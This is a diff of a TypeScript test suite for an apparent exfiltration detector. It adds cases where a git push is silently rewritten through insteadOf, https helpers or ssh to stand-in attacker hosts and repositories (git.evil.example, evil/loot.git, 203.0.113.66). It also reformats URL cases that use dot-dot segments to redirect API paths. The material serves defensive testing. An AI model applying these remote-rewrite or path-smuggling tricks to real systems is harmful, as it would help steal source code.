@@ -165,9 +165,18 @@ describe('remoteRepository: the host and repository path a remote names', () => 
     ['https://github.com', 'no path'],
     ['https://evil.example\\@github.com/acme/app', 'a backslash before the userinfo'],
     // curl removes dot segments (RFC 3986) before sending: these go to /repos/evil/y and projects/evil%2Fy.
-    ['https://api.github.com/repos/acme/app/../../evil/y/releases/1/assets', 'a dot-dot segment after the API repository'],
-    ['https://api.github.com/repos/acme/app/%2e%2e/%2E%2E/evil/y/releases', 'an escaped dot-dot after the API repository'],
-    ['https://gitlab.com/api/v4/projects/acme%2Fapp/../../projects/evil%2Fy/uploads', 'a dot-dot after the GitLab project'],
+    [
+      'https://api.github.com/repos/acme/app/../../evil/y/releases/1/assets',
+      'a dot-dot segment after the API repository',
+    ],
+    [
+      'https://api.github.com/repos/acme/app/%2e%2e/%2E%2E/evil/y/releases',
+      'an escaped dot-dot after the API repository',
+    ],
+    [
+      'https://gitlab.com/api/v4/projects/acme%2Fapp/../../projects/evil%2Fy/uploads',
+      'a dot-dot after the GitLab project',
+    ],
     ['https://ghe.corp/api/v3/repos/acme/app/./../../evil/y', 'dot segments after the GHES repository'],
     ['file://github.com/acme/app', 'a local file:// URL (no network)'],
   ])('%s names no repository path (%s)', (remote) => {
@@ -181,5 +190,42 @@ describe('remoteRepository: the host and repository path a remote names', () => 
     expect(t('https://github.com/acme/app2', 'github.com')).toBe(false);
     expect(t(null, 'github.com')).toBe(false);
     expect(repositoryPathTest('*.gitlab.com/acme/**', hostGlob)('registry.gitlab.com/acme/a/b:v1', null)).toBe(true);
+  });
+});
+
+describe("git's own steps name where a rewritten remote goes (url.<base>.insteadOf / pushInsteadOf)", () => {
+  const EVIL_IP = '203.0.113.66';
+  const allowlist = [{ namespace: 'ci', destination: 'github.com/acme/*', reason: 'ci' }];
+  // `git push URL` runs its transport with the remote as written and the URL git rewrote it to; over ssh, ssh
+  // with the rewritten host and path. A config the sensors do not show (~/.gitconfig, .git/config) rewrites.
+  const push = (remote: string, step: [binary: string, args: string]) => {
+    const s = new Scenario();
+    const c = s.container({ namespace: 'ci' });
+    const sh = s.init(c);
+    s.readMany(sh, '/srv/repo', 100, MiB);
+    const git = s.exec(c, '/usr/bin/git', `push ${remote} HEAD:main`, { parent: sh });
+    const t = s.exec(c, step[0], step[1], { parent: git });
+    s.connect(t, EVIL_IP, 443)
+      .send(t, EVIL_IP, 443, 60 * MiB)
+      .wait(300)
+      .exit(t)
+      .exit(git);
+    return run(s.events, { allowlist }).alerts;
+  };
+
+  it('an https remote its helper shows rewritten to another host or account: not exempt', () => {
+    const helper = '/usr/lib/git-core/git-remote-https';
+    const url = 'https://github.com/acme/app.git';
+    expect(push(url, [helper, `${url} ${url}`])).toEqual([]);
+    expect(push(url, [helper, `${url} https://git.evil.example/loot.git`])).toHaveLength(1);
+    expect(push(url, [helper, `${url} https://github.com/evil/loot.git`])).toHaveLength(1);
+  });
+
+  it('an scp-like remote whose ssh step goes to another host or repository: not exempt', () => {
+    const ssh = '/usr/bin/ssh';
+    const remote = 'git@github.com:acme/app.git';
+    expect(push(remote, [ssh, `git@github.com "git-receive-pack 'acme/app.git'"`])).toEqual([]);
+    expect(push(remote, [ssh, `git@git.evil.example "git-receive-pack 'loot.git'"`])).toHaveLength(1);
+    expect(push(remote, [ssh, `git@github.com "git-receive-pack 'evil/loot.git'"`])).toHaveLength(1);
   });
 });
